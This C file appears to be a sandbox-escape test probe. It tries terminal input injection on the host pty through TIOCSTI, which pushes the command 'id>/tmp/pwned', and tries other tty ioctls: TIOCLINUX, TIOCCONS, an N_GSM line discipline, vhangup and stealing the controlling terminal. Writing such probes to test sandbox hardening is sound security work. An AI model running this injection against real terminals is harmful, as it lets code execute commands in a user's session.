// Terminal input injection on the (host) pty we were given as stdin:
// TIOCSTI, with junk in the upper 32 bits of the request too, TIOCLINUX,
// TIOCCONS, TIOCSETD, TIOCVHANGUP, and TIOCSCTTY stealing (arg 1).
#include <sys/ioctl.h>

#include "attack.h"

int main(void) {
  announce();
  const char* inject = "id>/tmp/pwned\n";
  long bad = 0;
  for (const char* c = inject; *c; ++c)
    if (RAW3(SYS_ioctl, 0, TIOCSTI, c) == 0) ++bad;
  step("tiocsti", RAW3(SYS_ioctl, 0, TIOCSTI, "x"));
  step("tiocsti_high_bits", RAW3(SYS_ioctl, 0, 0xdead00000000UL | TIOCSTI, "y"));
  step("tiocsti_count", bad);
  char sub = 0;
  step("tioclinux", RAW3(SYS_ioctl, 0, TIOCLINUX, &sub));
  step("tioccons", RAW3(SYS_ioctl, 0, TIOCCONS, 0));
  int ldisc = 21;  // N_GSM
  step("tiocsetd", RAW3(SYS_ioctl, 0, TIOCSETD, &ldisc));
  step("tiocvhangup", RAW3(SYS_ioctl, 0, 0x5437, 0));
  step("tiocsctty_steal", RAW3(SYS_ioctl, 0, TIOCSCTTY, 1));
  return done();
}
